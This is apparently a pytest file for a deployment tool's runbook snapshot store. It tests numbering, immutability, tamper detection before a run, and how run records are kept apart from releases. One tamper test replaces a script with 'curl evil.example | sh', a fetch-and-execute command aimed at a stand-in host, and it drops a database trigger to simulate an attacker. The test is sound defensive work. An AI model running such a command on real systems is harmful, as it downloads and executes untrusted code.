"""Runbook snapshots in the store (no Prefect): numbered per runbook, immutable (the database refuses to change
one), tamper-evident before a run, and a runbook run's record never counts as the release an environment holds."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
import sqlalchemy as sa

from flows.engine.runbooks import RunbookRequest, prepare_runbook, record_run
from snapshots.errors import SnapshotIntegrityError, StoreError
from snapshots.runbook_snapshots import publish, require_snapshot, snapshot_project
from snapshots.store import records
from tests.flows.local_store import Shop

RUNBOOK = {"name": "Rotate logs", "environments": ["Prod"], "roles": ["web"],
           "process": [{"name": "Rotate", "kind": "script", "roles": ["web"], "script": "logrotate -f x.conf"}]}


@pytest.fixture
def shop(ferry_home: Path, tmp_path: Path) -> Shop:
    shop = Shop.at(tmp_path / "shop", {"Dev": 1, "Prod": 2})
    shop.write([{"name": "Install", "kind": "script", "roles": ["web"], "script": "true"}],
               [{"name": "Colour", "value": "blue"}], runbooks=[RUNBOOK])
    shop.apply()
    return shop


def _publish(shop: Shop) -> int:
    with shop.ctx.store.begin() as conn:
        return int(publish(conn, shop.ctx.feed, "Shop", "rotate logs", "alice", vault=shop.ctx.vault)
                   .snapshot["snapshot"])


def test_snapshots_are_numbered_frozen_and_tamper_evident(shop: Shop) -> None:
    assert (_publish(shop), _publish(shop)) == (1, 2)
    with shop.ctx.store.read() as conn:
        first = require_snapshot(conn, "Shop", "Rotate logs", 1)
        assert require_snapshot(conn, "Shop", "Rotate logs").snapshot["snapshot"] == 2
    assert first.project == snapshot_project("Shop", "Rotate logs") and first.created_by == "alice"
    assert first.snapshot["process"][0]["script"] == "logrotate -f x.conf"
    assert [v["name"] for v in first.variables.variables] == ["Colour"]

    with pytest.raises((StoreError, sa.exc.IntegrityError)), shop.ctx.store.begin() as conn:
        conn.execute(sa.text("UPDATE releases SET snapshot = 'x' WHERE id = :id"), {"id": first.id})

    evil = first.text.replace("logrotate -f x.conf", "curl evil.example | sh")
    with shop.ctx.store.begin() as conn:  # someone with write access to the database, triggers dropped
        conn.execute(sa.text("DROP TRIGGER releases_no_update"))
        conn.execute(sa.text("UPDATE releases SET snapshot = :s, digest = :d WHERE id = :id"),
                     {"s": evil, "d": hashlib.sha256(evil.encode()).hexdigest(), "id": first.id})
    with pytest.raises(SnapshotIntegrityError, match="was tampered with"), shop.ctx.store.read() as conn:
        prepare_runbook(conn, shop.ctx.feed, shop.ctx.vault, RunbookRequest("Shop", "Rotate logs", "Prod", 1))
    with shop.ctx.store.read() as conn:  # the other snapshot is untouched and still runs
        prepare_runbook(conn, shop.ctx.feed, shop.ctx.vault, RunbookRequest("Shop", "Rotate logs", "Prod", 2))


def test_a_run_record_is_not_a_release_in_the_environment(shop: Shop) -> None:
    _publish(shop)
    shop.release("1.0.0")
    with shop.ctx.store.begin() as conn:
        plan = prepare_runbook(conn, shop.ctx.feed, shop.ctx.vault,
                               RunbookRequest("Shop", "Rotate logs", "Prod", targets=["prod-02"]))
        assert [t.name for t in plan.targets] == ["prod-02"] and plan.current.release.project == "Shop"
        run_id = record_run(conn, shop.ctx, plan, RunbookRequest("Shop", "Rotate logs", "Prod"))
        records.set_state(conn, run_id, records.SUCCESS)
        found = records.get(conn, run_id)
        assert (found.kind, found.runbook, found.version) == ("runbook", "Rotate logs", "Rotate logs snapshot 1")
        assert records.last_successful(conn, "Shop", "Prod") is None
        assert [d.id for d in records.list_deployments(conn, "Shop", "Prod")] == [run_id]
